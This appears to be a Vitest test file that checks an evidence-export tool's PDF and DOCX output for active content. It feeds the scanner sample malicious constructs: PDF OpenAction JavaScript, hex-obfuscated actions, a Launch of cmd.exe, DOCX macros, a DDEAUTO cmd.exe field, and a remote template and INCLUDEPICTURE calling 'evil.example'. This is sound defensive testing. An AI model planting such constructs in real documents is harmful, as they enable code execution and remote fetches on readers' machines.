import { beforeAll, describe, expect, it, vi } from 'vitest';
import { storedZip } from '../../../../utils/bytes/stored-zip';
import { readZip } from '../../../../utils/bytes/zip';
import { makePack } from '../../../../utils/export/pack';
import { activeDocx } from '../../../../utils/verify/active/active-docx';
import { activePdf } from '../../../../utils/verify/active/active-pdf';
import { samplePackInput } from '../../export/sample-incident';

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const latin1 = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
const bytesOf = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0) & 0xff);
let papers: Map<string, Uint8Array<ArrayBuffer>>;
beforeAll(async () => {
  const files = await readZip(new Uint8Array(await (await makePack(await samplePackInput({}, {}))).blob.arrayBuffer()));
  papers = new Map([...files].map(([name, bytes]) => [name.slice(name.indexOf('/') + 1), bytes]));
});

describe('our own papers', () => {
  it('hold nothing that acts', async () => {
    const pdfs = [...papers].filter(([name]) => name.endsWith('.pdf'));
    expect(pdfs.length).toBeGreaterThan(1);
    for (const [name, bytes] of pdfs) expect(activePdf(name, bytes)).toEqual([]);
    const lists = [...papers].filter(([name]) => name.endsWith('.docx'));
    expect(lists.length).toBeGreaterThan(0);
    for (const [name, bytes] of lists) expect(await activeDocx(name, bytes)).toEqual([]);
  });
});

describe('a PDF that acts', () => {
  const put = (into: string) => (pdf: string) => pdf.replace('/Type /Catalog', `/Type /Catalog ${into}`);
  it.each<[string, (pdf: string) => string]>([
    ['runs at opening', put('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['names its act in hexadecimal', put('/Open#41ction << /S /J#61vaScript >>')],
    ['acts on events', put('/AA << /O << /S /URI >> >>')],
    ['starts a program', put('/X << /S /Launch /F (cmd.exe) >>')],
    ['carries a file', put('/Names << /EmbeddedFiles 1 0 R >>')],
    ['sends a form', put('/AcroForm << /Fields [] >>')],
    [
      'has an update behind its end',
      (pdf) =>
        `${pdf}\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< >>\nstartxref\n9\n%%EOF\n`,
    ],
    ['has bytes behind its end', (pdf) => `${pdf}<script>alert(1)</script>`],
    ['has a second table', (pdf) => pdf.replace('startxref', 'startxref\n5\n%%EOF\nstartxref')],
    [
      'holds an object that no table names',
      (pdf) => pdf.replace(/\nxref\n/, '\n9999 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n'),
    ],
    ['hides objects in a stream', put('/X << /Type /ObjStm >>')],
    ['begins as something else', (pdf) => `<html>${pdf}`],
  ])('is told: %s', (_, change) => {
    const before = latin1(papers.get('data/report.pdf')!);
    const after = change(before);
    expect(after).not.toBe(before);
    expect(activePdf('report.pdf', bytesOf(after)).map(({ reason }) => reason)).toContain('active-content');
  });
});

describe('a DOCX that acts', () => {
  const change = (edit: (files: Map<string, Uint8Array>) => void) => {
    const files = new Map<string, Uint8Array>(listParts);
    edit(files);
    return storedZip(
      [...files].map(([path, bytes]) => ({ name: path, bytes: bytes as Uint8Array<ArrayBuffer> })),
      '2026-11-25T05:32:07.412Z',
    );
  };
  let listParts: Map<string, Uint8Array>;
  beforeAll(async () => {
    listParts = await readZip(papers.get('data/evidence-list.docx')!);
  });
  const inDocument = (xml: string) => (files: Map<string, Uint8Array>) => {
    const text = new TextDecoder().decode(files.get('word/document.xml'));
    files.set('word/document.xml', new TextEncoder().encode(text.replace('<w:p>', `${xml}<w:p>`)));
  };
  it.each<[string, (files: Map<string, Uint8Array>) => void]>([
    ['carries a macro', (files) => void files.set('word/vbaProject.bin', new Uint8Array([1]))],
    ['carries a file', (files) => void files.set('word/embeddings/oleObject1.bin', new Uint8Array([1]))],
    [
      'loads a template from elsewhere',
      (files) =>
        void files.set(
          'word/_rels/settings.xml.rels',
          new TextEncoder().encode(
            '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
          ),
        ),
    ],
    [
      'has a field that starts a program',
      inDocument('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>'),
    ],
    [
      'has a field that fetches',
      inDocument('<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/a.png"/></w:p>'),
    ],
    ['brings in a foreign chunk', inDocument('<w:altChunk r:id="x"/>')],
    ['has entities of its own', inDocument('<!DOCTYPE x [<!ENTITY a "b">]>')],
  ])('is told: %s', async (_, edit) => {
    expect((await activeDocx('list.docx', change(edit))).map(({ reason }) => reason)).toContain('active-content');
  });
});
